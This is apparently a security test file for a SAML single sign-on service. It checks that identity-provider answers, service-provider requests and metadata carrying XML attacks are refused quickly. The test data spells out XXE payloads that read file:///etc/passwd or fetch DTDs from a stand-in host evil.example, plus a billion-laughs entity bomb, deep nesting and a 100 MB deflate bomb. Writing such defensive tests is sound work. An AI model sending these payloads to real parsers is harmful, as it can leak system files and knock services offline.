// Threat class "XXE and entity bombs": XML of strangers is refused before any of it is expanded, fetched or kept, on
// both sides: answers of identity providers, requests of service providers, and metadata.
import { deflateRawSync, inflateRawSync } from 'node:zlib';
import { expect, it, test } from 'vitest';
import { pressSocial } from '../gitlab.ts';
import { call, createTestApp } from '../harness.ts';
import { startSignIn } from '../pages.ts';
import { createClient } from '../protocol.ts';
import { connectSaml, postAnswer } from '../saml.ts';
import { connectServiceProvider } from '../service-provider.ts';

const app = await createTestApp();
const client = await createClient(app);
const saml = await connectSaml(app);
const sp = await connectServiceProvider(app);

const laughs = Array.from({ length: 9 }, (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`).join(
  '',
);
const heads: [string, string][] = [
  ['a document type', '<!DOCTYPE a>'],
  ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
  ['an external document type', '<!DOCTYPE a SYSTEM "https://evil.example/a.dtd">'],
  ['a parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "https://evil.example/x"> %x;]>'],
  ['a billion laughs', `<!DOCTYPE a [<!ENTITY l0 "ha">${laughs}]>`],
  ['a document type in other letters', '<!doctype a>'],
];
const bodies: [string, (xml: string) => string][] = [
  ...heads.map(([name, head]): [string, (xml: string) => string] => [name, (xml) => head + xml]),
  ['an attribute of megabytes', (xml) => xml.replace(' ID=', ` x="${'a'.repeat(900_000)}" ID=`)],
  [
    'elements ten thousand deep',
    (xml) => xml.replace(/<\/[\w:]+>$/, (end) => '<a>'.repeat(10_000) + '</a>'.repeat(10_000) + end),
  ],
  ['elements that never end', (xml) => xml.replace(/<\/[\w:]+>$/, '<a>'.repeat(1000))],
];
/** Nothing that is sent may hold the server for longer than this. */
const PATIENCE_MS = 5000;
const timed = async <Result>(work: () => Promise<Result>): Promise<Result> => {
  const began = performance.now();
  const result = await work();
  expect(performance.now() - began).toBeLessThan(PATIENCE_MS);
  return result;
};

test.each(bodies)('an identity provider’s answer with %s signs nobody in', async (_, change) => {
  const { visitor, page } = await startSignIn(app, client);
  const request = saml.idp.readRequest(await pressSocial(visitor, page));
  const SAMLResponse = Buffer.from(change(saml.idp.answerXml(request, { nameId: 'bomber', signed: 'none' }))).toString(
    'base64',
  );
  await timed(async () => {
    const answer = await postAnswer(saml.acs, { SAMLResponse, RelayState: request.relayState });
    // The largest ones do not get past the limit of a request's body.
    if (answer.status === 413) return;
    const shown = await visitor.open(answer.headers.get('location') ?? '');
    expect([shown.name, shown.status]).toEqual(['error', 401]);
  });
  expect(await app.modules.users.findByIdentity(app.scope(), 'acme', 'bomber')).toBeUndefined();
});

const requestXml = async () => {
  const { SAMLRequest = '' } = await sp.authorizeForm();
  return inflateRawSync(Buffer.from(SAMLRequest, 'base64')).toString();
};

test.each(bodies)('a service provider’s request with %s begins nothing', async (_, change) => {
  const xml = change(await requestXml());
  await timed(async () => {
    const posted = await postForm(Buffer.from(xml).toString('base64'));
    expect([400, 413]).toContain(posted.status);
    const query = new URLSearchParams({ SAMLRequest: deflateRawSync(xml).toString('base64') });
    const redirected = await call(`${sp.entryPoint}?${query}`, 'GET');
    expect([400, 414, 431]).toContain(redirected.status);
  });
});

const postForm = (SAMLRequest: string) =>
  call(sp.entryPoint, 'POST', new URLSearchParams({ SAMLRequest }).toString(), {
    'content-type': 'application/x-www-form-urlencoded',
  });

it('a request that grows to a hundred megabytes when it is inflated is refused before it has', async () => {
  const bomb = deflateRawSync(Buffer.alloc(100 * 1024 * 1024), { level: 9 }).toString('base64');
  const small = deflateRawSync(Buffer.alloc(10 * 1024 * 1024), { level: 9 }).toString('base64');
  await timed(async () => {
    for (const SAMLRequest of [bomb, small]) {
      const { status } = await postForm(SAMLRequest);
      expect([400, 413]).toContain(status);
    }
  });
});

test.each(heads)('metadata with %s is not taken', async (_, head) => {
  const { status } = await app.api('POST', '/api/sso-connectors', {
    providerName: 'SAML',
    connectorName: `Bomb ${head.length}`,
    config: { metadata: head + saml.idp.metadata() },
  });
  expect(status).toBeGreaterThanOrEqual(400);
  expect(status).toBeLessThan(500);
});
